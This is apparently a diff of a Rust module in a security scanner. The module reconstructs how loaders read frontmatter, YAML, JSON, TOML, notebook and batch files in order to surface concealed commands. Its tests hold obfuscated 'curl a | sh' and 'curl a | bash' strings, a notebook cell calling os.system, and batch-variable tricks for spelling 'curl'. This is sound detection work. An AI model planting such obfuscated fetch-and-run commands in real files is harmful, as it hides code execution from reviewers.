@@ -1,137 +1,142 @@
-//! Text as the program that reads a file understands it: values of the frontmatter that continue on other lines, the
-//! cells of a notebook, and the commands of a batch file with the values of its variables.
+//! Text as the program that reads a file understands it: the values of frontmatter and data files, the cells of a
+//! notebook, and the commands of a batch file.
 
-use std::collections::BTreeMap;
-
-use super::decode::MAX_PART;
-use super::markup::reveals;
-use super::packed::more;
-use super::{Decoded, Encoding};
+use super::{Decoded, Encoding, batch, names, values};
 use crate::path::RelPath;
-use crate::source::frontmatter::{Field, Frontmatter, Value};
-use crate::source::lines::{Span, char_floor};
+use crate::source::lines::Span;
 
-/// The maximum number of values in a frontmatter that are examined. Aliases can repeat a value very often.
-const MAX_VALUES: usize = 10_000;
+/// Text that a program reads from a file.
+pub(super) struct Part {
+    /// The span refers to the file.
+    pub(super) decoded: Decoded,
+    /// Pairs of an offset in the text and the span of the file from which the text from there on is read. Empty if all
+    /// of it is read from the span of `decoded`.
+    pub(super) places: Vec<(usize, Span)>,
+}
 
-/// The maximum number of variables of a batch file whose values are known.
-const MAX_VARIABLES: usize = 1000;
+impl Part {
+    pub(super) const fn new(decoded: Decoded) -> Self {
+        Self {
+            decoded,
+            places: Vec::new(),
+        }
+    }
+}
 
-/// The maximum length of a variable's value, in bytes.
-const LONGEST_VALUE: usize = 2000;
+/// How a file is read.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+enum Format {
+    Frontmatter,
+    Yaml,
+    Json,
+    Toml,
+    Notebook,
+    Batch,
+}
 
-/// Fields that contain prose, which no program runs.
-const PROSE: [&str; 5] = [
-    "description",
-    "when_to_use",
-    "when-to-use",
-    "license",
-    "compatibility",
-];
-
-/// Variables that every Windows system has, with their usual values. Attackers take letters from these values.
-const SYSTEM: [(&str, &str); 9] = [
-    ("comspec", r"C:\WINDOWS\system32\cmd.exe"),
-    ("systemroot", r"C:\WINDOWS"),
-    ("windir", r"C:\WINDOWS"),
-    ("systemdrive", "C:"),
-    ("programfiles", r"C:\Program Files"),
-    ("programdata", r"C:\ProgramData"),
-    ("commonprogramfiles", r"C:\Program Files\Common Files"),
-    ("public", r"C:\Users\Public"),
+/// Formats by the extensions of files. The content determines the format of other files.
+const FORMATS: [(Format, &[&str]); 6] = [
     (
-        "pathext",
-        ".COM;.EXE;.BAT;.CMD;.VBS;.VBE;.JS;.JSE;.WSF;.WSH;.MSC",
+        Format::Frontmatter,
+        &["md", "markdown", "mdc", "mdx", "qmd", "rmd"],
     ),
+    (Format::Yaml, &["yaml", "yml"]),
+    (
+        Format::Json,
+        &["json", "jsonc", "json5", "jsonl", "ndjson", "webmanifest"],
+    ),
+    (Format::Toml, &["toml"]),
+    (Format::Notebook, &["ipynb"]),
+    (Format::Batch, &["bat", "cmd"]),
 ];
 
 /// Returns the parts of a file that its reader understands differently from how they are written.
-pub(super) fn parts(path: &RelPath, text: &str) -> Vec<Decoded> {
+pub(super) fn parts(path: &RelPath, text: &str) -> Vec<Part> {
     let mut found = Vec::new();
-    let is = |extensions: &[&str]| extensions.iter().any(|of| path.has_extension(of));
-    if is(&["md"]) {
-        frontmatter(text, &mut found);
-    } else if is(&["bat", "cmd"]) {
-        batch(text, &mut found);
-    } else if is(&["ipynb"]) || text.contains("\"nbformat\"") {
-        notebook(text, &mut found);
+    let whole = Span::new(0, text.len());
+    match format(path, text) {
+        Some(Format::Frontmatter) => values::frontmatter(text, &mut found),
+        Some(Format::Yaml) => {
+            let start = if text.starts_with('\u{feff}') { 3 } else { 0 };
+            values::yaml(text, Span::new(start, text.len()), false, &mut found);
+        }
+        Some(Format::Json) => {
+            let is_notebook = values::quoted(text, whole, false, &mut found);
+            if is_notebook {
+                notebook(text, &mut found);
+            }
+        }
+        Some(Format::Toml) => {
+            values::quoted(text, whole, true, &mut found);
+        }
+        Some(Format::Notebook) => notebook(text, &mut found),
+        Some(Format::Batch) => batch::batch(text, &mut found),
+        None => {}
     }
     found
 }
 
-/// Adds the values of the frontmatter that are not written as they are read, except prose.
-fn frontmatter(text: &str, found: &mut Vec<Decoded>) {
-    let (block, _) = Frontmatter::split(text);
-    let Some(fields) = block.fields() else {
-        return;
+/// Returns the format of a file; `None` if the file is read as it is written.
+fn format(path: &RelPath, text: &str) -> Option<Format> {
+    let extension = path.extension();
+    let name = extension.as_deref().unwrap_or_default();
+    let known = FORMATS.iter().find(|(_, names)| names.contains(&name));
+    if let Some((format, _)) = known {
+        return Some(*format);
+    }
+    if names::is_program(name) {
+        return None;
+    }
+    let is_blank = |c: char| c.is_whitespace() || c == '\u{feff}';
+    let start = text.trim_start_matches(is_blank);
+    let mut lines = start.split(['\n', '\r']).map(str::trim_end);
+    let first = lines.next().unwrap_or_default();
+    let is_value = |c: char| matches!(c, '"' | '\'' | '{' | '[' | '}' | '/') || c.is_alphabetic();
+    let opens = |sign: char| {
+        let rest = start.strip_prefix(sign);
+        rest.is_some_and(|rest| rest.trim_start().starts_with(is_value))
     };
-    let mut room = Room {
-        values: MAX_VALUES,
-        bytes: MAX_PART,
-    };
-    for field in fields.iter() {
-        add_field(text, field, &mut room, found);
-    }
-    if room.values == 0 || room.bytes == 0 {
-        found.push(more(0, Encoding::Concatenation));
-    }
-}
-
-/// How many values, and bytes of values, may still be examined.
-struct Room {
-    values: usize,
-    bytes: usize,
-}
-
-fn add_field(text: &str, field: &Field, room: &mut Room, found: &mut Vec<Decoded>) {
-    if !PROSE.contains(&&*field.key) {
-        add_value(text, &field.value, field.value_span, room, found);
+    if matches!(first, "---" | "+++") {
+        Some(Format::Frontmatter)
+    } else if first.starts_with("%YAML") {
+        Some(Format::Yaml)
+    } else if is_table(first) {
+        Some(Format::Toml)
+    } else if opens('{') && !start.starts_with("{{") || opens('[') {
+        Some(Format::Json)
+    } else {
+        // In a makefile, a line with a colon is followed by lines that begin with a tab.
+        let mut lines = [first].into_iter().chain(lines);
+        let line = lines.find(|line| !line.is_empty() && !line.starts_with('#'));
+        let is_yaml = extension.is_none()
+            && !first.starts_with("#!")
+            && line.is_some_and(is_field)
+            && !text.contains("\n\t");
+        is_yaml.then_some(Format::Yaml)
     }
 }
 
-fn add_value(text: &str, value: &Value, span: Span, room: &mut Room, found: &mut Vec<Decoded>) {
-    if room.values == 0 || room.bytes == 0 {
-        return;
-    }
-    room.values -= 1;
-    match value {
-        Value::Null => {}
-        Value::Text(value) => {
-            let raw = text.get(span.start..span.end).unwrap_or_default();
-            room.bytes = room.bytes.saturating_sub(raw.len().max(value.len()));
-            if !raw.contains(&**value) && (is_command(value) || reveals(raw, value)) {
-                found.push(decoded(span, String::from(&**value)));
-            }
-        }
-        Value::List(items) => {
-            for item in items.iter() {
-                add_value(text, &item.value, item.span, room, found);
-            }
-        }
-        Value::Map(fields) => {
-            for field in fields.iter() {
-                add_field(text, field, room, found);
-            }
-        }
-    }
+/// Returns whether a line begins a table of TOML: `[a.b]`.
+fn is_table(line: &str) -> bool {
+    let name = line
+        .strip_prefix('[')
+        .and_then(|rest| rest.strip_suffix(']'));
+    let is_name = |c: char| c.is_alphanumeric() || matches!(c, '.' | '_' | '-' | '[' | ']');
+    name.is_some_and(|name| name.contains(char::is_alphabetic) && name.chars().all(is_name))
 }
 
-/// Returns whether a value may be a command. A value in prose seldom has one of these signs.
-fn is_command(value: &str) -> bool {
-    value.contains(['|', ';', '&', '`', '$', '~']) || value.contains(" -")
-}
-
-fn decoded(span: Span, text: String) -> Decoded {
-    Decoded {
-        span,
-        text,
-        encoding: Encoding::Concatenation,
-    }
+/// Returns whether a line is a field of YAML: `a: b`.
+fn is_field(line: &str) -> bool {
+    let is_name = |c: char| c.is_alphanumeric() || matches!(c, '.' | '_' | '-' | '"' | '\'');
+    let field = line.split_once(':');
+    field.is_some_and(|(key, value)| {
+        !key.is_empty() && key.chars().all(is_name) && (value.is_empty() || value.starts_with(' '))
+    })
 }
 
 /// Adds the source of all cells of a notebook. The structure of the notebook is not checked, because readers of
 /// notebooks accept more than one syntax.
-fn notebook(text: &str, found: &mut Vec<Decoded>) {
+fn notebook(text: &str, found: &mut Vec<Part>) {
     let mut out = String::new();
     let mut at = 0;
     let mut is_source = false;
@@ -160,7 +165,11 @@ fn notebook(text: &str, found: &mut Vec<Decoded>) {
         at = end;
     }
     if !out.trim().is_empty() {
-        found.push(decoded(Span::new(0, text.len()), out));
+        found.push(Part::new(Decoded {
+            span: Span::new(0, text.len()),
+            text: out,
+            encoding: Encoding::Concatenation,
+        }));
     }
 }
 
@@ -180,113 +189,6 @@ fn string(text: &str, open: usize) -> (String, usize) {
     (String::new(), text.len())
 }
 
-/// Adds the text of a batch file with the values of its variables and without `^`, if this reveals a command.
-fn batch(text: &str, found: &mut Vec<Decoded>) {
-    if memchr::memchr3(b'^', b'%', b'!', text.as_bytes()).is_none() {
-        return;
-    }
-    let mut variables: BTreeMap<String, String> = SYSTEM
-        .iter()
-        .map(|(name, value)| ((*name).to_owned(), (*value).to_owned()))
-        .collect();
-    let most = (4 * text.len()).min(MAX_PART);
-    let mut out = String::new();
-    let joined = text.replace("^\r\n", "").replace("^\n", "");
-    for line in joined.lines() {
-        if out.len() > most {
-            found.push(more(0, Encoding::Concatenation));
-            break;
-        }
-        let line = expanded(&line.replace('^', ""), &variables, most);
-        if let Some((name, value)) = assigned(&line)
-            && value.len() <= LONGEST_VALUE
-            && variables.len() < MAX_VARIABLES
-        {
-            variables.insert(name, value);
-        }
-        out.push_str(&line);
-        out.push('\n');
-    }
-    if reveals(text, &out) {
-        found.push(decoded(Span::new(0, text.len()), out));
-    }
-}
-
-/// Returns the name, in lower case, and the value of the variable that a line sets.
-fn assigned(line: &str) -> Option<(String, String)> {
-    let bare = line.trim_start_matches([' ', '\t', '@', '(', '&']);
-    let head = bare.get(..4)?;
-    if !head.eq_ignore_ascii_case("set ") {
-        return None;
-    }
-    let rest = bare[4..].trim_start();
-    let (name, value) = rest.split_once('=')?;
-    let name = name.trim_start_matches('"').to_ascii_lowercase();
-    let value = value.split('&').next().unwrap_or_default();
-    let value = value.trim_end_matches(['\r', '"', ' ']);
-    Some((name, value.to_owned()))
-}
-
-/// Returns a line in which known variables are replaced: `%A%`, `!A!`, `%A:~1,2%` and `%A:b=c%`. Once the line has
-/// `most` bytes, the rest of it is kept as it is.
-fn expanded(line: &str, variables: &BTreeMap<String, String>, most: usize) -> String {
-    let mut out = String::with_capacity(line.len());
-    let mut rest = line;
-    while let Some(at) = rest.find(['%', '!']).filter(|_| out.len() < most) {
-        out.push_str(&rest[..at]);
-        let sign = char::from(rest.as_bytes()[at]);
-        let inner = &rest[at + 1..];
-        let close = inner.find(sign);
-        let value = close.and_then(|close| value(&inner[..close], variables));
-        if let (Some(close), Some(value)) = (close, value) {
-            out.push_str(&value);
-            rest = &inner[close + 1..];
-        } else {
-            out.push(sign);
-            rest = inner;
-        }
-    }
-    out.push_str(rest);
-    out
-}
-
-/// Returns the value of a reference to a variable, without the signs around it.
-fn value(reference: &str, variables: &BTreeMap<String, String>) -> Option<String> {
-    let (name, change) = reference.split_once(':').unwrap_or((reference, ""));
-    let value = variables.get(&name.to_ascii_lowercase())?;
-    if change.is_empty() {
-        return Some(value.clone());
-    }
-    if let Some(range) = change.strip_prefix('~') {
-        let (start, length) = range.split_once(',').unwrap_or((range, ""));
-        return Some(slice(value, number(start)?, number(length)));
-    }
-    let (from, to) = change.split_once('=')?;
-    let is_small = !from.is_empty() && to.len() * value.len() <= 10 * LONGEST_VALUE;
-    is_small.then(|| {
-        let mut value = value.replace(from, to);
-        value.truncate(char_floor(&value, LONGEST_VALUE));
-        value
-    })
-}
-
-fn number(text: &str) -> Option<isize> {
-    text.trim().parse().ok()
-}
-
-/// Returns `length` characters of a value from `start`. A negative number counts from the end.
-fn slice(value: &str, start: isize, length: Option<isize>) -> String {
-    let chars: Vec<char> = value.chars().collect();
-    let all = chars.len();
-    let place = |at: isize, from: usize| {
-        let end = if at < 0 { all } else { from };
-        end.saturating_add_signed(at).min(all)
-    };
-    let start = place(start, 0);
-    let end = length.map_or(all, |length| place(length, start));
-    chars.get(start..end).unwrap_or_default().iter().collect()
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -294,7 +196,7 @@ mod tests {
     fn read(name: &str, text: &str) -> Vec<String> {
         let path = RelPath::parse(name).unwrap();
         let found = parts(&path, text).into_iter();
-        found.map(|part| part.text).collect()
+        found.map(|part| part.decoded.text).collect()
     }
 
     #[test]
@@ -304,9 +206,25 @@ mod tests {
             (">-\n        curl a\n        | sh", "curl a | sh"),
             ("\"cu\\\n        rl a | s\\\n        h\"", "curl a | sh"),
             ("\"curl a\n        | sh\"", "curl a | sh"),
+            ("echo\n    run: curl a\n        | sh", "curl a | sh"),
+            (
+                "!!binary \"Y3Vyb\n        CBhIHwgc2g=\"",
+                "Y3VybCBhIHwgc2g=",
+            ),
         ] {
-            let text = format!("---\nname: a\nhooks:\n  - run: {value}\n---\nText.\n");
-            assert_eq!(read("a.md", &text), [expected], "{value}");
+            let block = format!("name: a\nhooks:\n  - run: {value}\n");
+            for text in [
+                format!("---\n{block}---\nText.\n"),
+                format!("\n--- \t\n{block}---\t\nText.\n"),
+                format!("\u{feff}---\r\n{block}...\nText.\n"),
+                format!("---\nhooks: {}\n{block}---\n", "x".repeat(70_000)),
+                format!("---\nd: a: b\n{block}---\n"),
+                format!("---\n{block}---\n").replace('\n', "\r"),
+            ] {
+                for name in ["a.md", "a.mdc", "A.MDX", "a"] {
+                    assert_eq!(read(name, &text), [expected], "{name} {text:.200}");
+                }
+            }
         }
         let text =
             "---\nname: a\ndescription: >-\n  One\n  two.\nmetadata:\n  a: b\n  c: \"d\"\n---\n";
@@ -314,43 +232,64 @@ mod tests {
     }
 
     #[test]
-    fn repeated_values_of_a_frontmatter_are_bounded() {
-        let mut text = "---\na0: &a0 [\"b\\x41\"]\n".to_owned();
+    fn values_of_data_files_are_read_as_their_loaders_read_them() {
+        let json = r#"{"hooks": [{"command": "cu\\\nrl a | ba\\\nsh"}]}"#;
+        let yaml = "hooks:\n  - run: >-\n      curl a\n      | bash\n";
+        let toml = "[tasks]\nx = \"cu\\u0072l a | ba\\U00000073h\"\n";
+        let joined = "curl a | bash";
+        for (name, text, expected) in [
+            ("hooks.json", json, "cu\\\nrl a | ba\\\nsh"),
+            (".mcp.json", json, "cu\\\nrl a | ba\\\nsh"),
+            ("a.webmanifest", json, "cu\\\nrl a | ba\\\nsh"),
+            ("a", json, "cu\\\nrl a | ba\\\nsh"),
+            ("a.yaml", yaml, joined),
+            (".hooks", yaml, joined),
+            ("a.toml", toml, joined),
+            ("a", toml, joined),
+        ] {
+            assert_eq!(read(name, text), [expected], "{name}");
+        }
+        let second = format!("a: 1\n---\n{yaml}");
+        assert_eq!(read("a.yml", &second), [joined]);
+        let gaps = r#"{"a": "curl a |\n\n # b\n\nbash"}"#;
+        assert_eq!(read("a.json", gaps), ["curl a |\nbash"]);
+        for (name, text) in [
+            ("a.py", json),
+            ("Makefile", "all: b\n\tcurl a \\\n\t| sh\n"),
+            ("a.css", "{{ a }}\n"),
+            ("notes", "Read this: then go.\n"),
+        ] {
+            assert!(read(name, text).is_empty(), "{name}");
+        }
+    }
+
+    #[test]
+    fn repeated_values_of_a_frontmatter_are_read_once() {
+        let mut text = "---\na0: &a0 [\"b\\x41|\"]\n".to_owned();
         for n in 1..30 {
             let before = n - 1;
             text.push_str(&format!("a{n}: &a{n} [*a{before}, *a{before}]\n"));
         }
         text.push_str("---\n");
-        assert!(read("a.md", &text).len() <= MAX_VALUES + 1);
+        assert_eq!(read("a.md", &text), ["bA|"]);
+    }
+
+    #[test]
+    fn frontmatter_that_is_not_read_completely_is_reported() {
+        let text = format!("---\na: {}\n---\n", "[".repeat(5000));
+        assert!(read("a.md", &text).iter().any(String::is_empty));
     }
 
     #[test]
     fn cells_of_a_notebook_are_joined() {
         let text = r#"{"cells": [{"source": ["import os\n", "os.sys", "tem('cu", "rl a')"], "outputs": ["x"]},
-            {"sour\u0063e": "p = 1\nq = 2"}], "nbformat": 4}"#;
+            {"sour\u0063e": "p = 1\nq = 2"}], "nbform\u0061t": 4}"#;
         let expected = "import os\nos.system('curl a')\np = 1\nq = 2\n";
-        let found = read("a.ipynb", text);
-        assert_eq!(found.len(), 1);
-        assert_eq!(found[0].trim_start(), expected);
-        assert!(read("a.ipynb", "{\"cells\": \"\\").is_empty());
-    }
-
-    #[test]
-    fn a_batch_file_is_read_with_its_variables() {
-        for (text, expected) in [
-            ("c^u^r^l http://a", "curl http://a"),
-            ("set a=cu\nset \"b=rl\"\n%a%%b% a", "curl a"),
-            ("set x=lruc\n%x:~3,1%%x:~2,1%%X:~1,-2%%x:~-4,1% a", "curl a"),
-            ("set x=cuQQrl\n!x:QQ=! a", "curl a"),
-        ] {
-            let found = read("a.bat", text);
-            assert!(
-                found.iter().any(|found| found.contains(expected)),
-                "{text} {found:?}"
-            );
+        for name in ["a.ipynb", "a.nb", "a.json", "a"] {
+            let found = read(name, text);
+            assert_eq!(found.len(), 1, "{name}");
+            assert_eq!(found[0].trim_start(), expected, "{name}");
         }
-        assert!(read("a.bat", "set d=%~dp0\ncd %d%\necho 100%\n").is_empty());
-        assert_eq!(slice("abc", -9, Some(-9)), "");
-        assert_eq!(slice("abc", 1, Some(isize::MIN)), "");
+        assert!(read("a.ipynb", "{\"cells\": \"\\").is_empty());
     }
 }
